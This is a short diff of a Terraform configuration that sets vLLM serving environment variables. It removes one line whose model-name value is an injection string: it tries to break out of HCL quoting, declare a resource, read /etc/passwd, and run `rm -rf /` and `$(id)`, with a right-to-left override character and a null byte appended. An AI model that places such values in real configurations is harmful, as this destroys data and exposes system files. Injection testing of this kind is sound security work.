@@ -31,7 +31,6 @@ locals {
         SM_VLLM_KV_CACHE_DTYPE         = "auto"
         SM_VLLM_MAX_MODEL_LEN          = "8192"
         SM_VLLM_MAX_NUM_SEQS           = "32"
-        SM_VLLM_SERVED_MODEL_NAME      = "\"}\nresource \"null_resource\" \"x\" {} $${file(\"/etc/passwd\")} %%{ if true }`rm -rf /`$(id) | # \\ 'EOF' \u202e\u0000"
         SM_VLLM_TENSOR_PARALLEL_SIZE   = "1"
       }
     }
